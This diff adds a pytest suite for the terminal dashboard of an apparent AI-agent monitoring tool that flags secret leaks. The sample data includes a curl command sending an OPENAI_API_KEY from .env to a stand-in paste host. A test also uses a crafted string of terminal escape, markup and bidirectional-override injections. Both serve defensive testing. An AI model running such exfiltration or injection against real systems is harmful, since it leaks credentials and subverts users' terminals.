@@ -1,0 +1,411 @@
+"""The dashboard driven by keys, over a real database, while a writer writes."""
+
+from __future__ import annotations
+
+import asyncio
+import time
+from collections.abc import AsyncIterator, Iterator
+from contextlib import asynccontextmanager
+from dataclasses import replace
+from pathlib import Path
+from typing import Any
+
+import pytest
+import tui_sample as sample
+from pilots import lines_of, live_of, log_of, make_app, settle, text_of, until
+from textual.pilot import Pilot
+from textual.theme import BUILTIN_THEMES
+
+from agentguard.config import open_home
+from agentguard.model.event import Event
+from agentguard.record.reader import Reader
+from agentguard.record.writer import Writer
+from agentguard.show.tui.detail_screen import DetailScreen
+from agentguard.show.tui.filter_bar import SETTLE
+from agentguard.show.tui.help_screen import HelpScreen
+from agentguard.show.tui.sensors_screen import SensorsScreen
+
+SHOP, SHOP_EVENTS = sample.shop_session()
+FINDINGS = 6
+
+
+@pytest.fixture
+def database(home: Path) -> Path:
+    return sample.fill(home / ".agentguard")
+
+
+@pytest.fixture
+def writer(home: Path) -> Iterator[Writer]:
+    writer = Writer(open_home(home / ".agentguard"))
+    writer.start()
+    yield writer
+    writer.close()
+
+
+@asynccontextmanager
+async def dashboard(database: Path, size: tuple[int, int] = (120, 36), **more: Any) -> AsyncIterator[Pilot[Any]]:
+    async with make_app(database, **more).run_test(size=size, notifications=True) as pilot:
+        await settle(pilot)
+        yield pilot
+
+
+def chosen(pilot: Pilot[Any]) -> Event:
+    event = log_of(pilot).chosen
+    assert event is not None
+    return event
+
+
+def another(number: int, **changes: Any) -> sample.Judged:
+    """One more event of the running session."""
+    finding, verdict = SHOP_EVENTS[-1]
+    changed = replace(finding, uid=f"more-{number}", time_ns=finding.time_ns + number, flow=None, **changes)
+    return changed, verdict
+
+
+async def test_the_first_look_answers_the_three_questions(database: Path) -> None:
+    async with dashboard(database) as pilot:
+        screen = text_of(pilot)
+        assert "● LIVE  claude-code 48213  ~/src/shop  30:30" in screen
+        assert "▲ LEAKED  OPENAI_API_KEY from .env went to paste.example" in screen
+        assert "POST paste.example/api" in screen
+        assert "■ CRIT" in screen
+        assert "Revoke OPENAI_API_KEY at its issuer now" in screen
+        assert "│ 4.77 s  the same value, base64 in body" in screen
+        assert "curl 48333 ← bash 48330 ← node 48290 ← claude 48213" in screen
+        assert "files ● confirm ● proxy ● env ●" in screen
+
+
+async def test_the_flow_is_drawn_beside_its_rows(database: Path) -> None:
+    async with dashboard(database) as pilot:
+        read, between, send = lines_of(log_of(pilot))[-3:]
+        assert (read[0], between[0], send[0]) == ("┌", "│", "└")
+        assert "read" in read
+        assert "leak" in send
+
+
+async def test_a_read_tells_where_its_value_went(database: Path) -> None:
+    async with dashboard(database) as pilot:
+        await pilot.press("up", "up")
+        await pilot.pause()
+        assert chosen(pilot).finding.activity == "read"
+        detail = text_of(pilot).split("Detail")[1]
+        assert "PUT https://gist.example/api/files" in detail
+        assert "POST https://paste.example/api" in detail
+
+
+async def test_a_new_event_is_on_the_screen_within_a_quarter_of_a_second(database: Path, writer: Writer) -> None:
+    async with dashboard(database) as pilot:
+        took = []
+        for number in range(1, 11):
+            began = time.monotonic()
+            writer.append(*another(number, subject=f"POST https://new{number}.example/"))
+            await until(pilot, lambda uid=f"more-{number}": chosen(pilot).finding.uid == uid, "the new event")
+            assert f"new{number}.example" in text_of(pilot)
+            took.append(time.monotonic() - began)
+            await asyncio.sleep(0.03)
+        # The best of ten: in the others another program may have the processor.
+        assert min(took) < 0.25
+
+
+async def test_pausing_keeps_the_place_and_counts_what_comes(database: Path, writer: Writer) -> None:
+    async with dashboard(database) as pilot:
+        await pilot.press("up")
+        await pilot.pause()
+        before = chosen(pilot), lines_of(log_of(pilot))
+        for number in range(1, 4):
+            writer.append(*another(number))
+        await until(pilot, lambda: len(log_of(pilot).index) == len(SHOP_EVENTS) + 3, "three more events")
+        assert (chosen(pilot), lines_of(log_of(pilot))) == before
+        assert "‖ paused, 3 new" in text_of(pilot)
+        await pilot.press("f")
+        await pilot.pause()
+        assert chosen(pilot).finding.uid == "more-3"
+        assert "● following · 75" in text_of(pilot)
+
+
+async def test_down_at_the_newest_event_follows_again(database: Path) -> None:
+    async with dashboard(database) as pilot:
+        await pilot.press("up")
+        assert not log_of(pilot).following
+        await pilot.press("down")
+        assert not log_of(pilot).following
+        await pilot.press("down")
+        assert log_of(pilot).following
+
+
+async def test_scrolling_up_with_the_wheel_pauses(database: Path) -> None:
+    async with dashboard(database) as pilot:
+        log_of(pilot).scroll_relative(y=-5, animate=False, force=True)
+        await pilot.pause()
+        assert not log_of(pilot).following
+
+
+async def test_home_end_and_pages(database: Path) -> None:
+    async with dashboard(database) as pilot:
+        await pilot.press("home")
+        await pilot.pause()
+        assert chosen(pilot).seq == 1
+        await pilot.press("pagedown")
+        await pilot.pause()
+        page = chosen(pilot).seq - 1
+        assert 10 < page < 36
+        await pilot.press("pageup", "end")
+        await pilot.pause()
+        assert chosen(pilot).seq == len(SHOP_EVENTS)
+        assert log_of(pilot).following
+
+
+async def test_next_and_previous_finding(database: Path) -> None:
+    async with dashboard(database) as pilot:
+        await pilot.press("home")
+        seen = []
+        for _ in range(FINDINGS):
+            await pilot.press("n")
+            await pilot.pause()
+            seen.append(chosen(pilot))
+        assert all(event.verdict.disposition in ("alert", "blocked") for event in seen)
+        assert [event.seq for event in seen] == sorted({event.seq for event in seen})
+        await pilot.press("n")
+        await pilot.pause()
+        assert chosen(pilot) == seen[-1]
+        assert "No later finding." in text_of(pilot)
+        await pilot.press("N")
+        await pilot.pause()
+        assert chosen(pilot) == seen[-2]
+
+
+async def test_a_filter_narrows_and_esc_widens(database: Path, writer: Writer) -> None:
+    async with dashboard(database) as pilot:
+        await pilot.press("slash", *"severity>=high host:paste.example")
+        await until(pilot, lambda: len(log_of(pilot).index) == 1, "one event")
+        assert "Events, filtered" in text_of(pilot)
+        writer.append(*another(1, host="other.example"))
+        writer.append(*another(2))
+        await until(pilot, lambda: len(log_of(pilot).index) == 2, "one more event")
+        assert chosen(pilot).finding.uid == "more-2"
+        await pilot.press("enter")
+        assert log_of(pilot).has_focus
+        await pilot.press("escape")
+        await until(pilot, lambda: len(log_of(pilot).index) == len(SHOP_EVENTS) + 2, "all events")
+
+
+async def test_free_text_searches(database: Path) -> None:
+    async with dashboard(database) as pilot:
+        await pilot.press("slash", *"vault secret")
+        await until(pilot, lambda: len(log_of(pilot).index) == 1, "one event")
+        assert chosen(pilot).finding.command_rule == "vault-kv"
+
+
+async def test_a_wrong_filter_says_why_and_filters_nothing(database: Path) -> None:
+    async with dashboard(database) as pilot:
+        await pilot.press("slash", *"severity>=loud")
+        await pilot.pause(2 * SETTLE)
+        await until(pilot, lambda: live_of(pilot).loaded, "the list to be loaded")
+        assert 'no severity "loud"' in text_of(pilot)
+        assert len(log_of(pilot).index) == len(SHOP_EVENTS)
+
+
+async def test_a_filter_may_name_another_session(database: Path) -> None:
+    async with dashboard(database) as pilot:
+        await pilot.press("slash", *"session:01KG3H")
+        await until(pilot, lambda: len(log_of(pilot).index) == 2, "the other session's events")
+        assert chosen(pilot).finding.agent == "gemini-cli"
+
+
+async def test_choosing_a_session(database: Path) -> None:
+    async with dashboard(database) as pilot:
+        await pilot.press("l", "down", "enter")
+        await until(pilot, lambda: pilot.app.snapshot.chosen.agent == "codex" and live_of(pilot).loaded, "the session")
+        screen = text_of(pilot)
+        assert "○ ended  codex 31877" in screen
+        assert "✓ CLEAN" in screen
+        assert log_of(pilot).has_focus
+
+
+async def test_a_session_named_at_the_start(database: Path) -> None:
+    async with dashboard(database, session="01KG3HZ") as pilot:
+        assert "? UNKNOWN  The proxy was down for 4 s" in text_of(pilot)
+
+
+async def test_sessions_at_80_columns_are_a_drawer(database: Path) -> None:
+    async with dashboard(database, (80, 24)) as pilot:
+        assert "codex 31877" not in text_of(pilot)
+        await pilot.press("l")
+        await pilot.pause()
+        assert "codex 31877" in text_of(pilot)
+        await pilot.press("escape")
+        await pilot.pause()
+        assert "codex 31877" not in text_of(pilot)
+        assert log_of(pilot).has_focus
+
+
+async def test_detail_tells_everything_and_goes_back(database: Path) -> None:
+    async with dashboard(database, (120, 50)) as pilot:
+        await pilot.press("enter")
+        await pilot.pause()
+        assert isinstance(pilot.app.screen, DetailScreen)
+        screen = text_of(pilot)
+        for part in (
+            *(
+                "/home/mira/src/shop/.env",
+                "curl -s -d @- https://paste.example/api",
+                "api.openai.com",
+                "base64 in body",
+            ),
+            *("policies/default.yaml:leak-to-unknown-host", "▲ LEAKED", "2026-01-31T14:31:47.880000Z"),
+        ):
+            assert part in screen
+        await pilot.press("escape")
+        await pilot.pause()
+        assert log_of(pilot).has_focus
+
+
+async def test_sensors_say_what_was_not_seen(database: Path) -> None:
+    async with dashboard(database, session="01KG3HZ") as pilot:
+        await pilot.press("s")
+        await pilot.pause()
+        assert isinstance(pilot.app.screen, SensorsScreen)
+        screen = text_of(pilot)
+        assert "ended by signal 9" in screen
+        assert "? the proxy ended by signal 9 and was away for 4.1 s" in screen
+        assert "closes it: run the task again" in screen
+        await pilot.press("escape")
+        await pilot.pause()
+        assert pilot.app.screen is live_of(pilot)
+
+
+async def test_help_opens_anywhere_and_closes(database: Path) -> None:
+    async with dashboard(database) as pilot:
+        for key in ("question_mark", "f1"):
+            await pilot.press(key)
+            await pilot.pause()
+            assert isinstance(pilot.app.screen, HelpScreen)
+            assert "severity>=high" in text_of(pilot)
+            await pilot.press("escape")
+            await pilot.pause()
+            assert pilot.app.screen is live_of(pilot)
+
+
+async def test_copy_and_report_use_the_clipboard_and_write_nothing(database: Path, home: Path) -> None:
+    async with dashboard(database) as pilot:
+        await pilot.press("c")
+        assert pilot.app.clipboard == chosen(pilot).finding.uid
+        await pilot.press("r")
+        await pilot.pause()
+        assert pilot.app.clipboard == f"agentguard report --session {SHOP.uid}"
+        assert pilot.app.clipboard in text_of(pilot)
+    assert not (home / ".agentguard" / "reports").exists()
+
+
+async def test_a_click_chooses_and_a_second_one_opens(database: Path) -> None:
+    async with dashboard(database) as pilot:
+        await pilot.click(type(log_of(pilot)), offset=(20, 3))
+        await pilot.pause()
+        assert chosen(pilot).seq == len(SHOP_EVENTS) - 14
+        await pilot.click(type(log_of(pilot)), offset=(20, 3))
+        await pilot.pause()
+        assert isinstance(pilot.app.screen, DetailScreen)
+
+
+async def test_an_empty_database_says_how_to_begin_and_fills_by_itself(home: Path) -> None:
+    folder = home / ".agentguard"
+    async with make_app(folder / "agentguard.db").run_test(size=(80, 24)) as pilot:
+        await until(pilot, lambda: "agentguard run -- claude" in text_of(pilot), "the empty state")
+        assert not folder.exists()
+        sample.fill(folder)
+        await settle(pilot)
+        assert "▲ LEAKED" in text_of(pilot)
+        assert "agentguard run -- claude" not in text_of(pilot)
+
+
+async def test_a_damaged_database_is_said_and_waited_for(home: Path) -> None:
+    folder = home / ".agentguard"
+    folder.mkdir()
+    path = folder / "agentguard.db"
+    path.write_bytes(b"not a database" * 1000)
+    async with make_app(path).run_test(size=(120, 36)) as pilot:
+        await until(pilot, lambda: "cannot read database" in text_of(pilot), "the error")
+        path.unlink()
+        sample.fill(folder)
+        await settle(pilot)
+        assert "▲ LEAKED" in text_of(pilot)
+
+
+@pytest.mark.parametrize("size", [(80, 24), (100, 30), (120, 36), (200, 60), (60, 16), (40, 12)])
+async def test_every_size_follows_the_newest_event(database: Path, size: tuple[int, int]) -> None:
+    async with dashboard(database, size) as pilot:
+        assert "leak" in lines_of(log_of(pilot))[-1] or size[0] < 60
+        assert log_of(pilot).following
+
+
+async def test_resizing_keeps_following(database: Path) -> None:
+    async with dashboard(database, (120, 36)) as pilot:
+        for size in ((80, 24), (200, 60), (90, 20), (120, 36)):
+            await pilot.resize_terminal(*size)
+            await pilot.pause(0.1)
+            assert log_of(pilot).following
+            assert "leak" in lines_of(log_of(pilot))[-1]
+
+
+async def test_every_theme(database: Path) -> None:
+    async with dashboard(database) as pilot:
+        before = None
+        for theme in BUILTIN_THEMES:
+            pilot.app.theme = theme
+            await pilot.pause()
+            assert "■ CRIT" in text_of(pilot)
+            styles = [segment.style for segment in log_of(pilot).render_line(3)]
+            assert styles != before or theme == "ansi-light", f"{theme}: lines were not drawn anew"
+            before = styles
+
+
+async def test_no_color(database: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setenv("NO_COLOR", "1")
+    async with dashboard(database) as pilot:
+        colours = {
+            segment.style.color.triplet
+            for strip in pilot.app.screen._compositor.render_strips(pilot.app.size)
+            for segment in strip
+            if segment.style and segment.style.color and segment.style.color.triplet
+        }
+        assert pilot.app.no_color
+        assert "▲ LEAKED" in text_of(pilot)
+        assert colours
+
+
+HOSTILE = (
+    "\x1b]0;owned\x07\x1b[2J[red]x[/red]\u202egnp.\udcffenv\n\t[@click=app.quit]q[/]" + "a\u0301\u0302\u0303\u0304" * 50
+)
+
+
+@pytest.mark.parametrize("size", [(80, 24), (120, 36)])
+async def test_hostile_text_is_text(database: Path, writer: Writer, size: tuple[int, int]) -> None:
+    finding, verdict = SHOP_EVENTS[-1]
+    process = finding.process
+    assert process is not None
+    process = replace(process, name=HOSTILE, exe=HOSTILE, cmdline=(HOSTILE,) * 3)
+    match = replace(finding.matches[0], name=HOSTILE, preview=HOSTILE, place=HOSTILE, encoding=(HOSTILE,), type=HOSTILE)
+    hostile = replace(
+        finding, uid="hostile", subject=HOSTILE, path=HOSTILE, host=HOSTILE, process=process, matches=(match,)
+    )
+    session = replace(
+        SHOP, agent_name=HOSTILE, agent="unknown", cwd=HOSTILE, outcome_reason=HOSTILE, command=(HOSTILE,)
+    )
+    writer.append(hostile, replace(verdict, reason=HOSTILE, rule=HOSTILE))
+    writer.update_session(session)
+    writer.flush(10)
+    async with dashboard(database, size) as pilot:
+        for keys in ((), ("enter",), ("escape", "s"), ("escape", "l")):
+            await pilot.press(*keys)
+            await pilot.pause()
+            screen = text_of(pilot)
+            assert not set(screen) & set("\x1b\x07\u202e\t\udcff")
+            assert pilot.app.is_running
+        assert "[red]x[/red]" in screen
+
+
+async def test_the_app_lets_the_database_go(database: Path) -> None:
+    async with dashboard(database) as pilot:
+        app = pilot.app
+    assert not app._watcher._thread.is_alive()
+    assert Reader(database).sessions()
